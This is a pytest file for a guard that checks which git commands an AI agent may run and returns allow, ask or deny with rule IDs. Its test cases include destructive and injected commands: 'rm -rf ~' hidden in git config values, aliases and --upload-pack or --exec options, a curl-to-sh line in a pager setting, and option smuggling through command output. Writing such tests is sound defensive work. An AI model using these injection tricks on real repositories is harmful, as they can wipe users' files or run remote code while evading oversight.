    inv = Invocation([Word(w) for w in command], cwd=str(cwd))
    action = Action("shell", "Bash", command=" ".join(command), cwd=str(cwd))
    ctx = Context(action, Config(), PathContext(str(home), str(cwd)))
    call = G.read_call(inv, ctx)
    assert call is not None
    return call


def test_repo_and_branch_match_git(repo: Path, home: Path) -> None:
    top = _git(repo / "src", "rev-parse", "--show-toplevel").stdout.strip()
    assert _git(repo, "rev-parse", "--is-inside-work-tree").stdout.strip() == "true"
    found = G.find_repo(_call(["git", "status"], repo / "src", home))
    assert found.top is not None and os.path.samefile(found.top, top)
    assert found.current_branch() == _git(repo, "branch", "--show-current").stdout.strip()


def test_ref_lookup_matches_git_before_and_after_packing(repo: Path, home: Path) -> None:
    _git(repo, "tag", "v1")
    names = ["main", "feature/login", "v1", "nope", "README.md"]

    def git_says(name: str) -> bool:
        return _git(repo, "rev-parse", "--verify", "-q", name, check=False).returncode == 0

    for _ in range(2):
        found = G.find_repo(_call(["git", "status"], repo, home))
        for name in names:
            assert bool(found.has_ref(name)) == git_says(name), name
        _git(repo, "pack-refs", "--all", "--prune")
        assert not (repo / ".git" / "refs" / "heads" / "main").exists()


def test_global_options_move_the_directory(repo: Path, home: Path) -> None:
    call = _call(["git", "-C", "src", "-C", "..", "-c", "a.b=1", "--no-pager", "status"],
                 repo, home)
    assert call.cwd == str(repo) and call.sub == "status" and call.config["a.b"] == "1"
    call = _call(["git", "--git-dir=x/.git", "--work-tree", "x", "log"], repo, home)
    assert call.git_dir == str(repo / "x" / ".git") and call.work_tree == str(repo / "x")


def test_restore_defaults_match_git(repo: Path) -> None:
    """-S alone keeps the working tree; --no-staged alone is refused by git; none = worktree."""
    probe = repo.parent / "probe"
    shutil.copytree(repo, probe)
    changed = "# app\nwork in progress\n"
    _git(probe, "restore", "-S", "README.md")
    assert (probe / "README.md").read_text() == changed
    assert git_ids("git restore -S README.md", repo) == []
    assert _git(probe, "restore", "--no-staged", "README.md", check=False).returncode != 0
    assert git_ids("git restore --no-staged README.md", repo) == []
    _git(probe, "restore", "README.md")
    assert (probe / "README.md").read_text() == "# app\n"
    assert git_ids("git restore README.md", repo) == ["GIT004"]


def test_clean_dry_run_wins_over_force(repo: Path) -> None:
    (repo / "notes.txt").write_text("untracked\n")
    out = _git(repo, "clean", "-nf").stdout
    assert "notes.txt" in out and (repo / "notes.txt").exists()
    assert git_ids("git clean -nf", repo) == []
    assert git_ids("git clean -f", repo) == ["GIT002"]


def test_commit_u_mode_is_not_no_verify(repo: Path) -> None:
    # -uno is --untracked-files=no, not -u -n -o: git runs the hooks
    hook = repo / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\necho ran > hook-ran\n")  # hooks run at the top
    hook.chmod(0o755)
    _git(repo, "commit", "-uno", "-qam", "wip")
    assert (repo / "hook-ran").exists()
    assert git_ids("git commit -uno -am wip", repo) == []


# -- shell aliases: the body is judged like the shell command it is ------------------------


def test_inline_shell_alias_body_is_judged(repo: Path) -> None:
    decision = check("git -c alias.x='!rm -rf ~' x", repo)
    assert decision.verdict == Verdict.DENY
    assert {"FS001", "GIT026"} <= set(decision.rule_ids)
    fs = next(f for f in decision.findings if f.rule_id == "FS001")
    assert "git alias `x`" in fs.message
    # git appends the alias's arguments to the shell command
    assert "FS001" in check("git -c alias.x='!rm -rf' x ~", repo).rule_ids
    assert "GIT001" in check("git -c alias.x='!git reset --hard' x", repo).rule_ids
    assert check("git -c alias.x='!rm -rf build' x", repo).rule_ids == ["GIT026"]


def test_shell_alias_runs_at_the_top_of_the_work_tree(repo: Path) -> None:
    """git runs ``!`` aliases from the top directory: `rm -rf src` there is the project's
    src, even when called from inside src (where it would name src/src)."""
    _git(repo, "config", "alias.drop", "!rm -rf src")
    action = Action("shell", "Bash", command="git drop", cwd=str(repo / "src"),
                    project_dir=str(repo))
    findings = evaluate(action, Config()).findings
    assert [f.rule_id for f in findings] == ["FS004"]
    assert "src with everything in it" in findings[0].message


# -- words known only at run time ----------------------------------------------------------


def test_command_output_can_hold_options(repo: Path) -> None:
    """What `git branch $(cat f)` does depends on the file: with `-D x` in it, git deletes."""
    probe = repo.parent / "probe"
    shutil.copytree(repo, probe)
    _git(probe, "branch", "doomed")
    (probe / "list.txt").write_text("-D doomed\n")
    subprocess.run(["sh", "-c", "git branch $(cat list.txt)"], cwd=probe, check=True,
                   capture_output=True)
    assert _git(probe, "rev-parse", "-q", "--verify", "doomed", check=False).returncode != 0
    assert "GIT028" in check("git branch $(cat list.txt)", repo).rule_ids


# -- aborting an operation in progress -------------------------------------------------------


def _conflict(repo: Path) -> None:
    _git(repo, "stash", "-q")
    _git(repo, "checkout", "-q", "main")
    (repo / "README.md").write_text("# main side\n")
    _git(repo, "commit", "-qam", "main side")
    _git(repo, "checkout", "-q", "feature/login")
    (repo / "README.md").write_text("# feature side\n")
    _git(repo, "commit", "-qam", "feature side")


def test_merge_abort_asks_whether_or_not_a_merge_is_stopped(repo: Path) -> None:
    # nothing in progress now, but `git merge main || git merge --abort` can stop one first
    assert git_ids("git merge --abort", repo) == ["GIT029"]
    assert git_ids("git merge main || git merge --abort", repo) == ["GIT029"]
    _conflict(repo)
    assert _git(repo, "merge", "main", check=False).returncode != 0
    assert (repo / ".git" / "MERGE_HEAD").exists()
    (repo / "README.md").write_text("# resolved by hand\n")
    for spelling in ("git merge --abort", "git merge --abor"):
        assert git_ids(spelling, repo) == ["GIT029"], spelling
    assert git_ids("git merge --continue", repo) == []
    assert git_ids("git merge --quit", repo) == []
    _git(repo, "merge", "--abort")
    assert (repo / "README.md").read_text() == "# feature side\n"  # the resolution is gone


def test_rebase_and_cherry_pick_abort_ask(repo: Path) -> None:
    _conflict(repo)
    assert _git(repo, "rebase", "main", check=False).returncode != 0
    assert git_ids("git rebase --abort", repo) == ["GIT029"]
    _git(repo, "rebase", "--abort")
    assert git_ids("git rebase --abort", repo) == ["GIT029"]
    main_tip = _git(repo, "rev-parse", "main").stdout.strip()
    assert _git(repo, "cherry-pick", main_tip, check=False).returncode != 0
    assert git_ids("git cherry-pick --abort", repo) == ["GIT029"]
    assert git_ids("git cherry-pick --skip", repo) == []


# -- restoring files that hold nothing uncommitted ----------------------------------------------


def test_restoring_a_file_as_committed_loses_nothing(repo: Path) -> None:
    (repo / "kept.txt").write_text("v1\n")
    _git(repo, "add", "kept.txt")
    _git(repo, "commit", "-q", "-m", "kept")
    # tracked and unchanged: the version overwritten is the committed one
    for command in ("git restore kept.txt", "git checkout -- kept.txt",
                    "git checkout HEAD~1 -- kept.txt", "git restore --source=HEAD~1 kept.txt"):
        assert git_ids(command, repo) == [], command
    # changed (staged or not), untracked, a pattern, or changed first by the same command: asks
    (repo / "kept.txt").write_text("v2, not committed\n")
    assert git_ids("git restore kept.txt", repo) == ["GIT004"]
    _git(repo, "add", "kept.txt")
    assert git_ids("git checkout HEAD -- kept.txt", repo) == ["GIT004"]
    _git(repo, "reset", "-q", "--hard")
    (repo / "loose.txt").write_text("never added\n")
    assert git_ids("git checkout HEAD~1 -- loose.txt", repo) == ["GIT004"]
    assert git_ids("git restore '*.txt'", repo) == ["GIT004"]
    assert git_ids("git stash pop && git checkout -- kept.txt", repo) == ["GIT004"]
    assert git_ids("echo more >> kept.txt; git restore kept.txt", repo) == ["GIT004"]


# -- deleting a local tag ----------------------------------------------------------------------


def test_tag_delete_asks_whether_or_not_the_tag_exists(repo: Path) -> None:
    # absent now, but a fetch or an earlier command may create it before the delete runs
    assert git_ids("git tag -d v9", repo) == ["GIT030"]
    assert git_ids("git fetch --tags && git tag -d v9", repo) == ["GIT030"]
    _git(repo, "tag", "-a", "v9", "-m", "release notes")
    assert git_ids("git tag -d v9", repo) == ["GIT030"]
    assert git_ids("git tag --delete v9", repo) == ["GIT030"]
    assert git_ids("git tag --del v9", repo) == ["GIT030"]
    assert git_ids("git tag -d -- v9", repo) == ["GIT030"]
    assert git_ids("git tag -l v9", repo) == []
    assert git_ids("git tag -d", repo) == []  # no name: git refuses


def test_tag_force_asks_only_onto_an_existing_tag(repo: Path) -> None:
    assert git_ids("git tag -f v9", repo) == []  # a new tag: nothing is replaced
    _git(repo, "tag", "-a", "v9", "-m", "release notes")
    old = _git(repo, "rev-parse", "v9^{commit}").stdout.strip()
    assert git_ids("git tag -f v9", repo) == ["GIT030"]
    assert git_ids("git tag --force v9 HEAD", repo) == ["GIT030"]
    assert git_ids("git tag -fa v9 -m again", repo) == ["GIT030"]
    _git(repo, "pack-refs", "--all")  # a tag recorded in packed-refs only
    assert git_ids("git tag -f v9", repo) == ["GIT030"]
    assert git_ids("git tag -f \"$T\"", repo) == ["GIT030"]
    assert git_ids("git tag -f -l 'v*'", repo) == []
    # what it guards against: git replaces the tag without a word, and keeps no reflog of it
    _git(repo, "commit", "--allow-empty", "-m", "next")
    _git(repo, "tag", "-f", "v9")
    assert _git(repo, "rev-parse", "v9^{commit}").stdout.strip() != old
    assert _git(repo, "reflog", "show", "refs/tags/v9", check=False).stdout.strip() == ""


# -- help, and words that only look like it ----------------------------------------------------


@pytest.mark.parametrize(("command", "args", "expected"), [
    # -e takes the next word as a pattern: git cleans, excluding a file named --help
    ("git clean -fdx -e --help", ["clean", "-fdx", "-e", "--help"], ["GIT002"]),
    ("git clean -e --help -fdx", ["clean", "-e", "--help", "-fdx"], ["GIT002"]),
    ("git clean -fdxe --help", ["clean", "-fdxe", "--help"], ["GIT002"]),
    # --source takes --help as the revision: git fails to resolve it, railguard asks as for
    # any restore of a path from a named source
    ("git restore --source --help README.md", None, ["GIT004"]),
    ("git clean -fdx --help", ["clean", "-fdx", "--help"], []),
    ("git clean -h", ["clean", "-h"], []),
])
def test_help_is_an_option_not_a_value(repo: Path, command: str, args: list[str] | None,
                                        expected: list[str]) -> None:
    (repo / "scratch.txt").write_text("untracked work\n")
    assert git_ids(command, repo) == expected
    if args is not None:
        # what real git does with it, dry-run only (-n): removal listed, or usage shown
        real = _git(repo, *args[:1], "-n", *args[1:], check=False)
        listed = "Would remove scratch.txt" in real.stdout
        assert listed == bool(expected), real.stdout + real.stderr
        assert (repo / "scratch.txt").exists()


def test_help_of_worktree_sub_commands(repo: Path) -> None:
    """``git worktree remove --force --help`` prints the usage and removes nothing (checked
    with real git); a worktree that is a value (``add -b --help``) is not a help request."""
    wt = repo.parent / "wt"
    _git(repo, "worktree", "add", "-q", str(wt))
    (wt / "work.txt").write_text("uncommitted\n")
    _git(repo, "-c", "help.format=web", "-c", "web.browser=false", "worktree", "remove",
         "--force", "--help", check=False)
    assert (wt / "work.txt").exists()
    assert git_ids("git worktree remove --force --help", repo) == []
    assert git_ids("git worktree remove -f -h", repo) == []
    assert git_ids(f"git worktree remove --force {wt}", repo) == ["GIT014"]
    assert git_ids(f"git worktree remove --forc {wt}", repo) == ["GIT014"]


def test_help_of_a_subcommand_without_an_option_table(repo: Path) -> None:
    assert git_ids("git update-ref --help", repo) == []
    # -m takes the next word: this deletes the branch
    assert git_ids("git update-ref -m --help -d refs/heads/main", repo) != []


# -- the ssh transport replaced ------------------------------------------------------------------


def test_ssh_transport_replaced_asks_on_network_commands(repo: Path) -> None:
    helper = repo / "helper"
    helper.write_text("#!/bin/sh\nexec ssh \"$@\"\n")
    helper.chmod(0o755)
    for command in ("GIT_SSH_COMMAND=./helper git fetch origin",
                    "export GIT_SSH_COMMAND=./helper; git ls-remote origin",
                    "git -c core.sshCommand=./helper pull",
                    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.sshCommand "
                    "GIT_CONFIG_VALUE_0=./helper git fetch origin",
                    "GIT_SSH=./helper git clone git@example.com:a/b.git",
                    "GIT_SSH_COMMAND=./helper git archive --remote=origin HEAD",
                    "GIT_SSH_COMMAND=./helper git remote -v update"):
        assert "GIT032" in git_ids(command, repo), command
    for command in ("GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy_key' git fetch origin",
                    "GIT_SSH_COMMAND=/usr/bin/ssh git fetch origin",
                    "GIT_SSH=plink.exe git fetch origin",
                    "GIT_SSH_COMMAND=./helper git status",
                    "GIT_SSH_COMMAND=./helper git archive HEAD",
                    "GIT_SSH_COMMAND=./helper git remote -v",
                    "git -c core.sshCommand=./helper log -1"):
        assert "GIT032" not in git_ids(command, repo), command


# -- checkouts git refuses -------------------------------------------------------------------


@pytest.mark.parametrize("args", [["--track", "direct", "main"], ["--track", "inherit", "main"],
                                  ["--recurse-submodules", "checkout", "main"],
                                  ["-t", "main", "README.md"],
                                  ["--track=direct", "origin/main", "--", "README.md"],
                                  ["-t", "--", "README.md"]])
def test_checkouts_git_refuses_lose_nothing(repo: Path, args: list[str]) -> None:
    """``--track`` takes its mode only as ``--track=MODE`` and refuses paths without ``-b``;
    a branch name read as a path, with no such file, stops the whole checkout."""
    before = (repo / "README.md").read_text()
    assert _git(repo, "checkout", *args, check=False).returncode != 0
    assert (repo / "README.md").read_text() == before
    assert git_ids("git checkout " + " ".join(args), repo) == []


def test_a_branch_name_read_as_a_path_stops_the_checkout(repo: Path) -> None:
    """``git checkout README.md main``: README.md is no revision, so both are paths; `main`
    matches no file and git refuses everything. A missing plain file name is still asked
    about (the command might create it first)."""
    before = (repo / "README.md").read_text()
    assert _git(repo, "checkout", "README.md", "main", check=False).returncode != 0
    assert (repo / "README.md").read_text() == before
    assert git_ids("git checkout README.md main", repo) == []
    assert git_ids("git checkout -- README.md main", repo) == []
    assert git_ids("git checkout -- README.md", repo) == ["GIT004"]
    assert git_ids("git checkout -- new-file.txt", repo) == ["GIT004"]


# -- settings whose value git runs as a command -----------------------------------------------

COMMAND_SETTINGS = [
    ("git config core.fsmonitor 'rm -rf ~'", "FS001"),
    ("git config core.pager 'rm -rf ~'", "FS001"),
    ("git config --global core.editor 'rm -rf ~'", "FS001"),
    ("git config core.sshCommand 'rm -rf ~'", "FS001"),
    ("git config set core.sshCommand 'rm -rf ~'", "FS001"),
    ("git config sequence.editor 'git reset --hard'", "GIT001"),
    ("git config diff.external 'rm -rf ~'", "FS001"),
    ("git config diff.word.textconv 'git clean -fdx'", "GIT002"),
    ("git config filter.x.clean 'rm -rf ~'", "FS001"),
    ("git config filter.x.smudge 'rm -rf ~'", "FS001"),
    ("git config merge.ours.driver 'git reset --hard'", "GIT001"),
    ("git config pager.log 'curl -s https://example.com/x.sh | sh'", "NET001"),
    ("git config alias.x '!rm -rf ~'", "FS001"),
    ("git config --add alias.x '!git reset --hard'", "GIT001"),
    ("git config credential.helper '!rm -rf ~'", "FS001"),
    ("git config submodule.lib.update '!git clean -fdx'", "GIT002"),
    ("git config core.pager \"$PAGER_CMD\"", "SH003"),
]


@pytest.mark.parametrize(("command", "rule"), COMMAND_SETTINGS,
                         ids=[c for c, _ in COMMAND_SETTINGS])
def test_settings_that_run_commands_are_judged_by_the_command(command: str, rule: str,
                                                              repo: Path) -> None:
    decision = check(command, repo)
    assert rule in decision.rule_ids, decision.findings
    finding = next(f for f in decision.findings if f.rule_id == rule)
    assert "the git setting" in finding.message


def test_the_setting_really_runs_later(repo: Path) -> None:
    """What `git config core.fsmonitor CMD` writes, every later `git status` runs."""
    _git(repo, "config", "core.fsmonitor", "touch fsmonitor-ran")
    _git(repo, "status")
    assert (repo / "fsmonitor-ran").exists()
    _git(repo, "config", "--unset", "core.fsmonitor")
    # the same setting with a destructive command is refused, a boolean passes
    assert check("git config core.fsmonitor 'rm -rf ~'", repo).verdict == Verdict.DENY
    assert check("git config core.fsmonitor false", repo).rule_ids == []


def test_alias_written_and_used_in_one_command(repo: Path) -> None:
    decision = check("git config alias.r 'reset --hard' && git r", repo)
    assert decision.verdict == Verdict.DENY
    finding = next(f for f in decision.findings if f.rule_id == "GIT001")
    assert "`r` is the alias" in finding.message
    # the alias written now wins over the one in the config files
    _git(repo, "config", "alias.st", "status")
    assert git_ids("git st", repo) == []
    assert git_ids("git config alias.st 'reset --hard'; git st", repo) == ["GIT001"]
    # used before it is written, git does not know it yet
    assert git_ids("git r; git config alias.r 'reset --hard'", repo) == []


# -- a diff of the working tree applied in reverse -------------------------------------------


def test_reverse_apply_of_the_diff_discards_the_changes(repo: Path) -> None:
    probe = repo.parent / "probe"
    shutil.copytree(repo, probe)
    subprocess.run(["sh", "-c", "git diff | git apply -R"], cwd=probe, check=True,
                   capture_output=True)
    assert (probe / "README.md").read_text() == "# app\n"  # the uncommitted line is gone
    decision = check("git diff | git apply -R", repo)
    assert decision.verdict == Verdict.ASK
    assert decision.rule_ids == ["GIT004"]
    assert git_ids("git diff > keep.patch; git apply -R keep.patch", repo) == []


# -- moving an existing branch, by the repository's real state --------------------------------


def test_update_ref_asks_only_for_an_existing_branch(repo: Path) -> None:
    assert git_ids("git update-ref refs/heads/main HEAD", repo) == ["GIT009"]
    assert git_ids("git update-ref refs/heads/topic HEAD", repo) == []
    _git(repo, "branch", "topic")
    _git(repo, "pack-refs", "--all")  # the ref now lives in packed-refs only
    assert not (repo / ".git" / "refs" / "heads" / "topic").exists()
    assert git_ids("git update-ref refs/heads/topic main", repo) == ["GIT009"]
    assert git_ids("git checkout -B topic main", repo) == ["GIT009"]
    assert git_ids("git branch -f topic main", repo) == ["GIT009"]
    assert git_ids("git switch -C topic2 main", repo) == []


def test_soft_reset_keeps_the_changes(repo: Path) -> None:
    """`git reset --soft` moves the branch and keeps every change staged: nothing is lost
    that ORIG_HEAD and the reflog do not hold, so it passes, like a mixed reset."""
    assert git_ids("git reset --soft HEAD~0", repo) == []
    assert git_ids("git reset --soft main", repo) == []


# -- the program git starts for the other end of a connection ---------------------------------


@pytest.fixture
def upstream(repo: Path) -> Path:
    """A second repository on disk, the ``origin`` of ``repo``: a local-path remote, for
    which git runs ``--upload-pack`` and the like through the shell on this machine."""
    up = repo.parent / "upstream"
    subprocess.run(["git", "init", "-q", "-b", "main", str(up)], check=True)
    _git(up, "commit", "-q", "--allow-empty", "-m", "first")
    _git(repo, "remote", "add", "origin", str(up))
    return up


def test_the_pack_programs_really_run_through_the_shell(repo: Path, upstream: Path) -> None:
    """Each form below runs its value with the real git (which then fails: ``false``)."""
    marker = repo.parent / "ran"
    forms = [
        ["fetch", f"--upload-pack=echo fetch >>{marker}; false", str(upstream)],
        ["fetch", f"--upload-p=echo abbreviated >>{marker}; false", str(upstream)],
        ["ls-remote", "-h", "--upload-pack", f"echo ls-remote >>{marker}; false",
         str(upstream)],
        ["clone", "-qu", f"echo clone >>{marker}; false", str(upstream),
         str(repo.parent / "copy")],
        ["push", "--dry-run", f"--exec=echo push >>{marker}; false", str(upstream), "HEAD:x"],
        ["archive", f"--remote={upstream}", f"--exec=echo archive >>{marker}; false", "HEAD"],
        ["-c", f"remote.origin.uploadpack=echo setting >>{marker}; false", "fetch", "origin"],
    ]
    for form in forms:
        _git(repo, *form, check=False)
    assert marker.read_text().split() == ["fetch", "abbreviated", "ls-remote", "clone", "push",
                                          "archive", "setting"]


PACK_PROGRAMS_DENIED = [
    "git fetch --upload-pack='rm -rf ~' {up}",
    "git fetch --upload-pack 'rm -rf ~' {up}",
    "git fetch --upload-p='rm -rf ~' {up}",
    "git fetch --upl='rm -rf ~' origin main",
    "git fetch --upload-pack='rm -rf ~' git@example.com:acme/app.git",
    "git ls-remote --upload-pack='rm -rf ~' {up}",
    "git ls-remote -h --upload-pack='rm -rf ~' {up}",
    "git clone -u 'rm -rf ~' {up} copy",
    "git clone -qu'rm -rf ~' {up} copy",
    "git clone --upload-pack='rm -rf ~' file://{up} copy",
    "git pull --upload-pack='rm -rf ~' {up} main",
    "git push --receive-pack='rm -rf ~' {up} HEAD:x",
    "git push --dry-run --exec='rm -rf ~' {up} HEAD:x",
    "git push --rece='rm -rf ~' origin",
    "git send-pack --receive-pack='rm -rf ~' {up} HEAD:x",
    "git fetch-pack --upload-pack='rm -rf ~' {up}",
    "git archive --remote={up} --exec='rm -rf ~' HEAD",
    "git -c remote.origin.uploadpack='rm -rf ~' fetch origin",
    "git -c remote.origin.receivepack='rm -rf ~' push origin HEAD:x",
    "git -c remote.origin.uploadpack='rm -rf ~' remote update",
    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.uploadpack "
    "GIT_CONFIG_VALUE_0='rm -rf ~' git fetch origin",
    "GIT_CONFIG_PARAMETERS=\"'remote.origin.uploadpack=rm -rf ~'\" git fetch origin",
    "git -c alias.sync='fetch --upload-pack=\"rm -rf ~\"' sync {up}",
    # git appends the repository's path: `rm -rf .` empties the project
    "git fetch --upload-pack='rm -rf' .",
]


@pytest.mark.parametrize("command", PACK_PROGRAMS_DENIED)
def test_pack_program_judged_as_shell_code(command: str, repo: Path, upstream: Path) -> None:
    decision = check(command.format(up=upstream), repo)
    assert decision.verdict == Verdict.DENY, decision.findings
    assert any(" program, named by " in f.message for f in decision.findings)


@pytest.mark.parametrize("command", [
    "git fetch --upload-pack=\"$UP\" origin",
    "git fetch --upload-pack=\"git-upload-pack $EXTRA\" origin",
    "git -c remote.origin.uploadpack=\"git-upload-pack $EXTRA\" fetch origin",
    "git push --receive-pack=\"$(cat rp.txt)\" origin HEAD:x",
    "X='rm -rf ~' git --config-env=remote.origin.uploadpack=X fetch origin",
])
def test_pack_program_known_only_at_run_time_asks(command: str, repo: Path,
                                                  upstream: Path) -> None:
    decision = check(command, repo)
    assert decision.verdict == Verdict.ASK, decision.findings
    assert {"SH003", "SH004"} & set(decision.rule_ids)


@pytest.mark.parametrize("command", [
    "git fetch --upload-pack=git-upload-pack {up}",
    "git fetch --upload-pack=/usr/lib/git-core/git-upload-pack origin",
    "git ls-remote --upload-pack='git upload-pack' origin",
    "git clone -u /usr/bin/git-upload-pack {up} copy",
    "git clone -b main --depth 1 -o up {up} copy",
    "git fetch --depth 1 --recurse-submodules=no origin main",
    "git fetch origin", "git ls-remote -h origin", "git archive --remote={up} HEAD",
    "git -c remote.origin.uploadpack=git-upload-pack fetch origin",
    "git -c remote.origin.uploadpack='git-upload-pack $EXTRA' fetch origin",
    "git config --get remote.origin.uploadpack",
])
def test_ordinary_pack_programs_pass(command: str, repo: Path, upstream: Path) -> None:
    assert check(command.format(up=upstream), repo).rule_ids == []


def test_pack_program_push_still_asks_as_a_push(repo: Path, upstream: Path) -> None:
    assert git_ids("git push --receive-pack=git-receive-pack origin HEAD:x", repo) == ["GIT021"]
    assert check("git push --dry-run --receive-pack=git-receive-pack origin HEAD:x",
                 repo).rule_ids == []


def test_clean_without_force_when_the_config_files_allow_it(repo: Path) -> None:
    (repo / "notes.txt").write_text("untracked work\n")
    assert check("git clean -d", repo).verdict.label == "allow"  # git refuses
    assert check("git config clean.requireForce false && git clean -d",
                  repo).verdict.label == "deny"
    subprocess.run(["git", "-C", str(repo), "config", "clean.requireForce", "false"],
                   check=True)
    assert check("git clean -d", repo).verdict.label == "deny"
    assert check("git clean -n", repo).verdict.label == "allow"


def test_settings_from_included_config_files_count(repo: Path, tmp_path: Path) -> None:
    inc = tmp_path / "inc.cfg"
    subprocess.run(["git", "-C", str(repo), "config", "include.path", str(inc)], check=True)
    subprocess.run(["git", "-C", str(repo), "remote", "add", "origin", str(tmp_path / "o")],
                   check=True)
    inc.write_text("[clean]\n\trequireForce = false\n")
    (repo / "notes.txt").write_text("untracked work\n")
    assert check("git clean -d", repo).verdict.label == "deny"
    inc.write_text('[remote "origin"]\n\tpush = +refs/heads/*:refs/heads/*\n')
    assert "GIT015" in [f.rule_id for f in check("git push", repo).findings]
    inc.write_text('[alias]\n\twipe = reset --hard\n')
    assert check("git wipe", repo).verdict.label == "deny"


def test_patch_reversing_the_worktree_diff(repo: Path) -> None:
    assert git_ids("git diff | patch -R -p1", repo) == ["GIT004"]
    assert git_ids("git diff | patch --reverse -p1", repo) == ["GIT004"]
    assert git_ids("patch -R -p1 < fix.patch", repo) == []
    assert git_ids("git diff | patch -p1 -R --dry-run", repo) == []
    assert git_ids("git diff | patch -p1", repo) == []


def test_mv_force_onto_an_existing_file(repo: Path) -> None:
    assert git_ids("git mv -f README.md src/app.py", repo) == ["GIT004"]
    assert git_ids("git mv --force README.md src", repo) == []  # src/README.md is new
    assert git_ids("git mv README.md src/app.py", repo) == []  # git refuses
    assert git_ids("git mv -f README.md docs.md", repo) == []
